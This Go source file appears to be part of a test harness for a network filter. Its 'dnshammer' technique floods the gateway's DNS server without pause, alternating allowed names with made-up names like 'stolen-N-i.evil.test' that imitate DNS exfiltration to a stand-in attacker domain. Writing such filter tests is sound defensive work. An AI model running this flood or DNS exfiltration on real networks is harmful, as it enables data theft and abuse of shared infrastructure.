package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"strings"
	"time"
)

var _ = register(technique{
	Name:   "dnshammer",
	What:   "lookups of allowed and of made-up names without a pause: each question carries data to the filter",
	Layers: []string{"network"},
	Signs:  []sign{{What: "work", N: 500}},
	run: func(s *scene) error {
		gw, err := gateway()
		if err != nil {
			return err
		}
		for i := range 4 {
			go lookUp(s, net.JoinHostPort(gw, "53"), i)
		}
		return nil
	},
})

// lookUp counts answers, so that work goes on only while questions and answers pass.
func lookUp(s *scene, server string, nr int) {
	name, _, _ := net.SplitHostPort(s.ticks)
	buf := make([]byte, 1500)
	for {
		conn, err := net.DialTimeout("udp", server, time.Second)
		if err != nil {
			s.denied()
			time.Sleep(10 * time.Millisecond)
			continue
		}
		for i := 0; err == nil; i++ {
			ask := name
			if i%2 == 1 {
				ask = fmt.Sprintf("stolen-%d-%d.evil.test", nr, i)
			}
			if _, err = conn.Write(question(uint16(i), ask)); err != nil { // wraps on purpose
				break
			}
			conn.SetReadDeadline(time.Now().Add(stuckAfter)) // a live socket
			if _, err = conn.Read(buf); err == nil {
				s.did()
			}
		}
		s.denied()
		conn.Close() // it failed
	}
}

// question is a DNS question for an IPv4 address (RFC 1035, section 4.1).
func question(id uint16, name string) []byte {
	q := binary.BigEndian.AppendUint16(nil, id)
	q = append(q, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0) // recursion wanted, one question
	for label := range strings.SplitSeq(strings.TrimSuffix(name, "."), ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	return append(q, 0, 0, 1, 0, 1)
}
